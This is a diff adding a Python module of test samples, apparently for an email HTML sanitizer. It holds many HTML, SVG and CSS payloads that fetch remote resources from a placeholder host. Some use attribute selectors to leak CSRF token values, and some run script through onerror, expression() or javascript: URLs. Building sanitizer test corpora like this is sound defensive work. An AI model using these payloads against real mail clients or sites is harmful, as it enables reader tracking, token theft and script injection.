@@ -1,0 +1,171 @@
+# ruff: noqa: E501 -- a line is a sample, and says more in one piece
+"""Samples that want something from elsewhere: pictures, styles, fonts, hints to the browser, and styles that tell."""
+
+from postroom.mail.tests.attacks.marks import AWAY, JS, RUN, css_escaped, in_base64
+
+_STYLESHEET = f"@import url({AWAY}/i.css);body{{background:url({AWAY}/b.png)}}"
+
+ELEMENTS = {
+    "picture without a scheme": "<img src=//canary.example/x.png>",
+    "picture by backslashes": "<img src='\\\\canary.example/x.png'><img src='/\\canary.example/y.png'>",
+    "picture with a tab in its scheme": "<img src='ht\ttp://canary.example/x.png'>",
+    "picture with a line feed in its host": "<img src='//canary\n.example/x.png'>",
+    "picture with one slash": "<img src='http:/canary.example/x.png'><img src='http:canary.example/y.png'>",
+    "picture over FTP": "<img src='ftp://canary.example/x.png'>",
+    "picture of our own": "<img src=/accounts/sign-out><img src='x.png'><img src='?read=1'><img src=''>",
+    "picture by the old word": f"<image src={AWAY}/x.png>",
+    "picture in sizes": f"<img srcset='{AWAY}/1.png 1x, {AWAY}/2.png 2x' sizes=100vw>",
+    "picture of a source": f"<picture><source srcset={AWAY}/s.png><img alt=x></picture>",
+    "picture loaded lazily": f"<img loading=lazy lazysrc={AWAY}/l.png data-src={AWAY}/d.png src=x crossorigin>",
+    "picture of low quality": f"<img lowsrc={AWAY}/l.png dynsrc={AWAY}/d.avi longdesc={AWAY}/x>",
+    "picture of a link's map": f"<a href={AWAY}/m><img ismap src=x></a><img usemap={AWAY}#m>",
+    "picture that tells who reads": f"<img src=x attributionsrc={AWAY}/a><a attributionsrc={AWAY}/b href={AWAY}>x</a>",
+    "picture over a shared dictionary": f"<link rel=compression-dictionary href={AWAY}/d>",
+    "film": f"<video src={AWAY}/v.mp4 autoplay></video>",
+    "film's poster": f"<video poster={AWAY}/p.png></video>",
+    "film's source": f"<video autoplay><source src={AWAY}/v.webm></video>",
+    "film's words": f"<video src=x><track default src={AWAY}/t.vtt></video>",
+    "sound": f"<audio src={AWAY}/a.mp3 autoplay></audio>",
+    "sound of the background": f"<bgsound src={AWAY}/b.wav>",
+    "frame from elsewhere": f"<iframe src={AWAY}/f></iframe>",
+    "frame of a written page that loads": f"<iframe srcdoc='<img src={AWAY}/s>'></iframe>",
+    "frame loaded lazily": f"<iframe loading=lazy src={AWAY}/f csp=x></iframe>",
+    "frames in a set": f"<frameset><frame src={AWAY}/f></frameset>",
+    "fenced frame": f"<fencedframe src={AWAY}/f></fencedframe><portal src={AWAY}/p></portal>",
+    "embedded": f"<embed src={AWAY}/e>",
+    "object": f"<object data={AWAY}/o></object>",
+    "object with a code base": f"<object classid=clsid:0 codebase={AWAY}/o.cab archive={AWAY}/o.jar></object>",
+    "input that is a picture": f"<input type=image src={AWAY}/i.png>",
+    "background of a table": f"<table background={AWAY}/t.png><tr background={AWAY}/r.png><td background={AWAY}/d.png>x</table>",
+    "background of a body": f"<body background={AWAY}/b.png>",
+    "manifest of a page": f"<html manifest={AWAY}/m.appcache>",
+    "drawing's picture": f"<svg><image href={AWAY}/i.png width=9 height=9 /></svg>",
+    "drawing's picture by xlink": f"<svg><image xlink:href={AWAY}/i.png width=9 height=9 /></svg>",
+    "drawing's use": f"<svg><use href={AWAY}/u.svg#a /></svg>",
+    "drawing's filter": f"<svg><filter id=f><feImage href={AWAY}/f.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
+    "drawing's pattern": f"<svg><rect fill=url({AWAY}/p.svg#p) stroke=url({AWAY}/s.svg#s) width=9 height=9 /></svg>",
+    "drawing's mask": f"<svg><rect mask=url({AWAY}/m.svg#m) clip-path=url({AWAY}/c.svg#c) width=9 height=9 /></svg>",
+    "drawing's style": f"<svg><style>{_STYLESHEET}</style></svg>",
+    "drawing's foreign object": f"<svg><foreignObject width=9 height=9><img src={AWAY}/o.png></foreignObject></svg>",
+    "drawing's cursor": f"<svg><cursor id=c xlink:href={AWAY}/c.cur /></svg>",
+    "drawing's font": f"<svg><font-face-uri xlink:href={AWAY}/f.svg /><altGlyph xlink:href={AWAY}/g /></svg>",
+    "drawing with an entity from elsewhere": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{AWAY}/e">]><svg>&x;</svg>',
+    "doctype from elsewhere": f'<!DOCTYPE html SYSTEM "{AWAY}/d.dtd"><p>x',
+    "mathematics' picture": f"<math><mglyph src={AWAY}/g.png></mglyph></math>",
+    "data of XML": f"<xml src={AWAY}/d.xml id=x></xml>",
+    "page to be drawn beforehand": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}/s"],"eagerness":"immediate"}}]}}</script>',
+    "policy that reports": f'<meta http-equiv=Content-Security-Policy content="img-src none;report-uri {AWAY}/r">',
+    "link header in a meta": f'<meta http-equiv=Link content="<{AWAY}/l>; rel=preload; as=image">',
+    "cookie by a meta": '<meta http-equiv=Set-Cookie content="sessionid=x">',
+    "origin trial": '<meta http-equiv=origin-trial content="x"><meta name=referrer content=unsafe-url>',
+    "link that tells whoever asks": f"<a href=# ping={AWAY}/p autofocus>press</a>",
+    "Outlook's drawing": f'<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="{AWAY}/v.png" /></v:rect>',
+    "Outlook's picture": f'<v:imagedata src="{AWAY}/v.png" o:href="{AWAY}/h.png"></v:imagedata>',
+    "Outlook's condition": f"<!--[if mso]><img src={AWAY}/m.png><![endif]--><!--[if !mso]><!--><img src={AWAY}/n.png><!--<![endif]-->",
+    "Outlook's condition laid open": f"<![if !mso]><img src={AWAY}/o.png onerror={RUN}><![endif]>",
+}
+_HINTS = (
+    "stylesheet prefetch preload prerender preconnect dns-prefetch modulepreload icon manifest import alternate next"
+)
+HINTS = {
+    **{f"hint to the browser: {rel}": f'<link rel="{rel}" as=image href="{AWAY}/{rel}">' for rel in _HINTS.split()},
+    "hint to the browser: pictures in sizes": f'<link rel=preload as=image imagesrcset="{AWAY}/1.png 1x" imagesizes=1px>',
+    "hint to the browser in a body": f'<p><link itemprop=x rel="stylesheet" href="{AWAY}/b.css">',
+    "hint to the browser by its own line": '<link rel="preload stylesheet" as=style href="//canary.example/o.css">',
+    "hint to the browser, a stylesheet of data": f'<link rel=stylesheet href="{in_base64(_STYLESHEET, "text/css")}">',
+}
+
+_URL = f"url({AWAY}/c.png)"
+_PROPERTIES = {
+    "background": _URL, "background-image": _URL, "border-image": f"{_URL} 30 round", "border-image-source": _URL,
+    "list-style": f"square {_URL}", "list-style-image": _URL, "cursor": f"{_URL}, auto", "content": _URL,
+    "mask": _URL, "mask-image": _URL, "-webkit-mask-image": _URL, "-webkit-mask-box-image": _URL,
+    "-webkit-border-image": f"{_URL} 3", "clip-path": f"url({AWAY}/c.svg#c)", "filter": f"url({AWAY}/f.svg#f)",
+    "backdrop-filter": f"url({AWAY}/f.svg#f)", "shape-outside": _URL, "offset-path": f"url({AWAY}/o.svg#o)",
+    "-webkit-box-reflect": f"below 0 {_URL}", "fill": f"url({AWAY}/f.svg#f)", "marker": f"url({AWAY}/m.svg#m)",
+    "behavior": f"url({AWAY}/b.htc)", "-moz-binding": f"url({AWAY}/b.xml#b)", "-o-link": f"'{JS}'", "src": _URL,
+    "background-color": _URL, "color": _URL, "font-family": _URL, "width": f"expression({RUN})", "--x": _URL,
+    "mso-fill-url": _URL, "layer-background-image": _URL, "include-source": _URL, "cue": _URL, "play-during": _URL,
+}  # fmt: skip
+_WRITTEN = {
+    "image-set": f"background-image:image-set('{AWAY}/i.png' 1x)",
+    "the old image-set": f"background-image:-webkit-image-set({_URL} 1x)",
+    "cross-fade": f"background-image:-webkit-cross-fade({_URL},{_URL},50%)",
+    "image()": f"background-image:image('{AWAY}/i.png')",
+    "element()": "background-image:element(#x);background-image:-moz-element(#x)",
+    "paint()": "background-image:paint(x)",
+    "a variable": f"--u:{_URL};background-color:red;background-image:var(--u)",
+    "a variable with a second choice": f"background:var(--none,{_URL})",
+    "env()": f"background:env(none,{_URL})",
+    "attr()": "background-image:attr(title type(<image>));--a:attr(title)",
+    "src()": f"background-image:src('{AWAY}/s.png')",
+    "an escaped property": f"{css_escaped('background')}:{_URL}",
+    "an escaped function": f"background:{css_escaped('url')}({AWAY}/e.png)",
+    "a shortly escaped function": f"background:\\75\\72\\6C({AWAY}/s.png)",
+    "a long escaped function": f"background:{css_escaped('url', 6)}({AWAY}/l.png)",
+    "a comment inside": f"back/**/ground:u/**/rl({AWAY}/c.png);background/**/:/**/{_URL}",
+    "entities": f"background&#58;&#117;rl&lpar;{AWAY}/n.png&rpar;",
+    "capitals": f"BACKGROUND:URL({AWAY}/K.png)",
+    "full width": f"background:\uff55\uff52\uff4c({AWAY}/w.png)",
+    "a line feed": f"background:\nurl\n(\n{AWAY}/f.png\n);background:url(\n'{AWAY}/g.png'\n)",
+    "a backslash before a line feed": "background:url('http:\\\n//canary.example/b.png')",
+    "no end": f"background:url({AWAY}/o.png",
+    "a quote never ended": f"color:'x;background:{_URL};font-family:\"y",
+    "a bracket never ended": f"color:(;background:{_URL};font-family:[x",
+    "a block inside": f"color:red}} *{{background:{_URL}}} p{{color:red",
+    "an at-rule inside": f"@import '{AWAY}/a.css';color:red;@media all{{background:{_URL}}}",
+    "a rule nested": f"color:red;&:hover{{background:{_URL}}} & b{{background:{_URL}}}",
+    "a markup comment": f"<!-- color:red --> ;background:{_URL}",
+    "!important": f"background:{_URL}!important;background : red url({AWAY}/i.png) ! important",
+    "several backgrounds": f"background:red, {_URL};background:{_URL} , blue;background:red{_URL}",
+    "a colour that hides one": f"background:red;background:#fff url({AWAY}/h.png);background: rgb(0,0,0) {_URL}",
+    "a property in another's name": f"x-background:{_URL};background-:{_URL};-background:{_URL}",
+    "an expression": f"width:expression({RUN});xss:expr/*x*/ession({RUN});width:e\\xpression({RUN})",
+    "an expression in full width": f"width:\uff45xpression({RUN})",
+    "a program's address": f"background:url({JS});background-image:url('java\\0script:{RUN}')",
+    "a drawing of data": "background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>\")",
+    "a filter of Microsoft": f"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{AWAY}/m.png')",
+    "a scriptlet of Microsoft": f"behaviour:url(#default#time2);-ms-behavior:url({AWAY}/x.htc)",
+    "a zero": f"back\0ground:u\0rl({AWAY}/z.png)",
+}
+_SHEETS = {
+    "an import": f"@import '{AWAY}/1.css';",
+    "an import with a layer": f"@import url({AWAY}/2.css) layer(x) supports(color:red) screen;",
+    "an escaped import": f"@\\69mport '{AWAY}/3.css';",
+    "an import behind a character set": f"@charset 'utf-7';@import'{AWAY}/4.css';",
+    "a namespace": f"@namespace url({AWAY}/n);*|*{{background:{_URL}}}",
+    "a font": f"@font-face{{font-family:f;src:url({AWAY}/f.woff)}}*{{font-family:f}}",
+    "a font letter by letter": f"@font-face{{font-family:f;src:url({AWAY}/A);unicode-range:U+0041}}p{{font-family:f}}",
+    "selectors of attributes": f'input[value^="a"]{{background:url({AWAY}/a)}}a[href*="token"]{{background:url({AWAY}/t)}}',
+    "selectors that look around": f":root:has(input[name=csrf][value^=x]){{background:url({AWAY}/h)}}html:not(x){{background:{_URL}}}",
+    "what was visited": f"a:visited{{background:{_URL}}}a:link{{background:{_URL}}}",
+    "what is written before": f"p::before{{content:url({AWAY}/q)}}p::first-line{{background:{_URL}}}",
+    "a scroll bar": f"::-webkit-scrollbar{{background:{_URL}}}::-webkit-scrollbar:vertical{{background:url({AWAY}/v)}}*{{overflow:scroll}}",
+    "conditions": f"@media all{{body{{background:{_URL}}}}}@supports (color:red){{p{{background:{_URL}}}}}",
+    "a container": f"body{{container-type:size}}@container (min-width:1px){{p{{background:url({AWAY}/w)}}}}",
+    "a layer and a scope": f"@layer x{{p{{background:{_URL}}}}}@scope (body){{p{{background:{_URL}}}}}",
+    "steps": f"@keyframes k{{from{{background:{_URL}}}to{{background:url({AWAY}/k)}}}}p{{animation:k 1s}}",
+    "counters": f"@counter-style c{{system:cyclic;symbols:url({AWAY}/s) '-'}}li{{list-style:c}}",
+    "a property with a first value": f"@property --u{{syntax:'<image>';inherits:true;initial-value:{_URL}}}p{{background:var(--u)}}",
+    "pages": f"@page{{background:{_URL}}}@page{{@top-left{{content:{_URL}}}}}@media print{{body{{background:{_URL}}}}}",
+    "a view transition": f"@view-transition{{navigation:auto}}::view-transition{{background:{_URL}}}",
+    "a binding": f"@-moz-document url(){{*{{-moz-binding:url({AWAY}/b.xml)}}}}",
+    "a document": f"@document url-prefix(''){{body{{background:{_URL}}}}}",
+    "the end of its element": f"</style><img src=x onerror={RUN}>",
+    "a markup comment": f"<!--\n@import '{AWAY}/m.css';\n-->",
+    "what it hides": f"</sty/**/le>*{{background:{_URL}}}",
+}
+STYLES = {
+    **{
+        f"style with {name}": f"<p style='{name}:{value.replace(chr(39), chr(34))}'>x</p>"
+        for name, value in _PROPERTIES.items()
+    },
+    **{
+        f"style written with {how}": f"<p title='{AWAY}/t' style=\"{css.replace(chr(34), '&quot;')}\">x</p>"
+        for how, css in _WRITTEN.items()
+    },
+    **{
+        f"sheet with {what}": f"<style>{css}</style><p>A <a href={AWAY}>x</a><input name=csrf value=x>"
+        for what, css in _SHEETS.items()
+    },
+}
